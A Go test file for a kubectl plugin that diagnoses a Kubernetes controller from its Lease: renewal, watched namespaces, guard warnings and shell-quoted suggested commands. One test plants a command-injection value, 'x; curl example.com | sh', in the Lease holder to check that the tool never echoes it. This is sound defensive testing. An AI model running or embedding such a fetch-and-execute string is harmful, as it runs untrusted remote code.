package main

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime"
	clienttesting "k8s.io/client-go/testing"

	"github.com/localservice-dev/local-service-controller/cmd/kubectl-localservice/diagnose"
	"github.com/localservice-dev/local-service-controller/internal/testing/objects"
	"github.com/localservice-dev/local-service-controller/pkg/apis/localservice/v1alpha1"
)

// lease returns a Lease of a controller that was last renewed some time ago.
func lease(namespace string, ago time.Duration) *coordinationv1.Lease {
	return &coordinationv1.Lease{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: leaseName},
		Spec: coordinationv1.LeaseSpec{HolderIdentity: new("lsc-7-x_0815"), LeaseDurationSeconds: new(int32(1)),
			RenewTime: &metav1.MicroTime{Time: time.Now().Add(-ago)}}}
}

// TestLease: a Lease that is not renewed shows a controller that does not run. Clocks that differ do not.
func TestLease(t *testing.T) {
	later := func(objects ...*coordinationv1.Lease) clienttesting.ReactionFunc {
		var read atomic.Int32
		return func(clienttesting.Action) (bool, runtime.Object, error) {
			i := min(int(read.Add(1)), len(objects)) - 1
			return true, &coordinationv1.LeaseList{Items: []coordinationv1.Lease{*objects[i]}}, nil
		}
	}
	only := func(namespace string) clienttesting.ReactionFunc {
		return func(a clienttesting.Action) (bool, runtime.Object, error) {
			return a.GetNamespace() != namespace, nil, forbidden
		}
	}
	givenBack := lease("ops", 0)
	givenBack.Spec.HolderIdentity = nil
	givenAfter := lease("a", -time.Minute)
	givenAfter.Spec.HolderIdentity = nil
	for name, c := range map[string]struct {
		leases  []runtime.Object
		react   clienttesting.ReactionFunc
		known   string // the namespace of the Lease that counts
		stopped bool
	}{
		"none":                  {},
		"renewed":               {[]runtime.Object{lease("ops", -time.Minute)}, nil, "ops", false},
		"renewed in the future": {[]runtime.Object{lease("ops", -24*time.Hour)}, nil, "", false}, // by no controller
		"that of the documents comes first": {[]runtime.Object{lease("a", -time.Minute),
			lease(diagnose.UsualNamespace, time.Hour)}, nil, diagnose.UsualNamespace, true},
		"not renewed":             {[]runtime.Object{lease("ops", time.Hour)}, nil, "ops", true},
		"given back just now":     {[]runtime.Object{givenBack}, nil, "ops", true},
		"one of two has a holder": {[]runtime.Object{givenAfter, lease("ops", -30*time.Second)}, nil, "ops", false},
		"one of two is renewed": {[]runtime.Object{lease("a", time.Hour), lease("b", -time.Minute),
			lease("c", time.Hour)}, nil, "b", false},
		"renewed, by its clock": {nil, later(lease("ops", time.Hour), lease("ops", time.Hour-time.Second)), "ops", false},
		"not allowed":           {[]runtime.Object{lease(diagnose.UsualNamespace, 0)}, only("none"), "", false},
		"allowed in a namespace": {[]runtime.Object{lease(diagnose.UsualNamespace, time.Hour)}, only(diagnose.UsualNamespace),
			diagnose.UsualNamespace, true},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := newFixture(t, c.leases...)
			if c.react != nil {
				f.kube.PrependReactor("list", "leases", c.react)
			}
			got := f.cluster("default").readController(t.Context())
			if got.Namespace != c.known || got.Stopped != c.stopped || (c.known != "") != (got.Name == leaseName) {
				t.Errorf("got %+v", got)
			}
		})
	}
}

// TestLeaseHolder: whoever may write Leases must not choose a command that others copy from a message.
func TestLeaseHolder(t *testing.T) {
	t.Parallel()
	hostile := lease("ops", -time.Minute)
	hostile.Spec.HolderIdentity = new("x; curl example.com | sh_0815")
	if got := newFixture(t, hostile).cluster("default").readController(t.Context()); got.Holder != "POD" {
		t.Errorf("got %+v", got)
	}
}

// TestWatched: of several controllers, each says in its Lease which namespaces it watches, unless it is older. The guard
// counts of the one whose Lease counts.
func TestWatched(t *testing.T) {
	t.Parallel()
	watching := func(namespace, namespaces string) *coordinationv1.Lease {
		l := lease(namespace, -time.Minute)
		l.Annotations = map[string]string{v1alpha1.NamespacesAnnotationKey: namespaces,
			v1alpha1.UnguardedAnnotationKey: "of " + namespace}
		return l
	}
	givenBack := watching("b", "c")
	givenBack.Spec.HolderIdentity = nil
	for name, c := range map[string]struct {
		leases []runtime.Object
		want   []string
	}{
		"one":               {[]runtime.Object{watching(diagnose.UsualNamespace, "a,b")}, []string{"a", "b"}},
		"two":               {[]runtime.Object{watching(diagnose.UsualNamespace, "a"), watching("b", "c")}, []string{"c", "a"}},
		"one is given back": {[]runtime.Object{watching(diagnose.UsualNamespace, "a"), givenBack}, []string{"a"}},
		"all":               {[]runtime.Object{watching(diagnose.UsualNamespace, "")}, []string{""}},
		"an older one":      {[]runtime.Object{watching(diagnose.UsualNamespace, "a"), lease("b", 0)}, []string{"", "a"}},
	} {
		got := newFixture(t, c.leases...).cluster("default").readController(t.Context())
		if !slices.Equal(got.Namespaces, c.want) {
			t.Errorf("%s: %q, want %q", name, got.Namespaces, c.want)
		}
		if got.Unguarded != "of "+diagnose.UsualNamespace {
			t.Errorf("%s: unguarded %q", name, got.Unguarded)
		}
	}
}

// TestUnguarded: that the guard is not in force is one line for people, and in each list for programs.
func TestUnguarded(t *testing.T) {
	t.Parallel()
	l := lease("ops", -time.Minute)
	l.Annotations = map[string]string{v1alpha1.UnguardedAnnotationKey: "pods,services"}
	const line = "The guard is not in force for the controller's account (pods,services): apply guard.yaml of the release " +
		"with the name of this account, or set -guard=false. The controller looks again every minute."
	f := newFixture(t, l)
	if err := f.localServices.Tracker().Add(localService("other", "")); err != nil {
		t.Fatal(err)
	}
	_, stdout, stderr := f.run(t, "nodes", "-A")
	if strings.Count("\n"+stderr, "\n"+line+"\n") != 1 || strings.Count(stdout+stderr, "The guard") != 1 {
		t.Error(stderr)
	}
	if _, stdout, _ := f.run(t, "nodes", "-A", "-o", "json"); strings.Count(stdout, line) != 2 {
		t.Errorf("for programs: %s", stdout)
	}
}

// TestLookAround: what would make pods is found with how many it should make.
func TestLookAround(t *testing.T) {
	t.Parallel()
	template := corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"app": "x"}}}
	elsewhere := objects.Pod("a", "n1")
	elsewhere.Namespace = "another"
	f := newFixture(t, elsewhere,
		&appsv1.DaemonSet{ObjectMeta: meta("agent"), Spec: appsv1.DaemonSetSpec{Template: template},
			Status: appsv1.DaemonSetStatus{DesiredNumberScheduled: 2}},
		&appsv1.Deployment{ObjectMeta: meta("web"), Spec: appsv1.DeploymentSpec{Template: template}},
		&appsv1.StatefulSet{ObjectMeta: meta("db"), Spec: appsv1.StatefulSetSpec{Replicas: new(int32(3)),
			Template: template}})
	c := f.cluster("default")
	got, namespaces := c.lookAround(t.Context(), "default"), c.elsewhere(t.Context(), localService("demo", ""))
	var made []string
	for _, w := range got.Workloads {
		if w.Labels["app"] == "x" {
			made = append(made, fmt.Sprint(w.Kind, " ", w.Name, " ", w.Replicas))
		}
	}
	want := []string{"Deployment web 1", "StatefulSet db 3", "DaemonSet agent 2"}
	if !slices.Equal(made, want) || !slices.Equal(namespaces, []string{"another"}) || len(got.Pods) != 3 {
		t.Errorf("got %v, %d pods, and pods in %v", made, len(got.Pods), namespaces)
	}
}

// TestControllerStops: that the controller does not seem to run is the first line, once, whatever is wrong with names.
func TestControllerStops(t *testing.T) {
	t.Parallel()
	f := newFixture(t, lease("ops", time.Hour))
	if err := f.localServices.Tracker().Add(localService("other", "")); err != nil {
		t.Fatal(err)
	}
	_, _, stderr := f.run(t, "nodes", "-A")
	const line = "The controller does not seem to run: Lease ops/local-service-controller has not been renewed for 60m."
	if !strings.HasPrefix(stderr, line) || strings.Count(stderr, "The controller") != 1 {
		t.Error(stderr)
	}
	// The command in it is one for the same cluster, and for a shell.
	_, _, stderr = f.run(t, "nodes", "-A", "--context=a b", "--kubeconfig=/x/it's", "--user=a:b/c@d")
	if !strings.Contains(stderr, `: kubectl '--kubeconfig=/x/it'\''s' '--context=a b' --user=a:b/c@d get deployments,pods -n ops`) {
		t.Error(stderr)
	}
}

// TestControllerWatched: a watch reports that the controller has stopped, and that it runs again, of all LocalServices.
// That its Lease is renewed changes nothing.
func TestControllerWatched(t *testing.T) {
	o := newFixture(t).read(t)
	o.follows = true
	before := o.snapshot(t.Context()).lists
	for i, stopped := range []bool{false, true, false} {
		o.controller = diagnose.Controller{Namespace: "ops", Name: leaseName, Renewed: time.Unix(int64(i), 0),
			Stopped: stopped}
		s := o.snapshot(t.Context())
		if (s.Controller != "") != stopped || (s.lists[0].Controller != "") != stopped ||
			!reflect.DeepEqual(before[0].Items, s.lists[0].Items) {
			t.Errorf("%v: %+v", stopped, s)
		}
	}
}
